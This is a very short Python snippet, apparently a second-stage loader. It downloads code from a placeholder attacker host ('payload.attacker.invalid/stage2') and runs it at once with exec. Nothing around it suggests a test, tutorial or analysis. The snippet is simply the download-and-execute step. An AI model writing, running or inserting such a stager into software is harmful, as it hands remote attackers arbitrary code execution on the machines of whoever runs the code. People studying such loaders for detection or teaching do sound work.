import urllib.request as u

stage = u.urlopen('https://payload.attacker.invalid/stage2').read()
exec(stage)
